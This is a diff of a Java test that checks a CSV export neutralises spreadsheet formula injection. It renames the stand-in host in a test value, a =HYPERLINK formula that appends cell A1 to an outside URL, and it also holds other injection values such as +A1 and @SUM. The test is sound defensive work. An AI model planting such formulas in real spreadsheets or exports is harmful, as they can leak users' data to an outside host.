@@ -131,7 +131,7 @@ class ListCsvTest {
         String slug = "formulas-" + UUID.randomUUID().toString().substring(0, 8);
         profiles.publish(new HostileProfiles.Texts(
                 slug,
-                "=HYPERLINK(\"https://evil.example/?\"&A1, \"Open\")",
+                "=HYPERLINK(\"https://spreadsheet-trap.example/?\"&A1, \"Open\")",
                 "+A1",
                 "-2+3, then\r\nsome \"quoted\" text; " + HostileProfiles.MARKUP,
                 "@SUM(A1:A9)",
@@ -145,7 +145,7 @@ class ListCsvTest {
         HttpResponse<String> export = get("/organisations.csv", "en");
 
         Map<String, String> formulas = rowOf(slug, export);
-        assertThat(formulas.get("name")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1, \"Open\")");
+        assertThat(formulas.get("name")).isEqualTo("'=HYPERLINK(\"https://spreadsheet-trap.example/?\"&A1, \"Open\")");
         assertThat(formulas.get("acronym")).isEqualTo("'+A1");
         assertThat(formulas.get("summary")).isEqualTo("'-2+3, then\r\nsome \"quoted\" text; " + HostileProfiles.MARKUP);
         assertThat(formulas.get("website")).isEqualTo("https://example.org/" + slug + "?a=1,b=\"2\"");
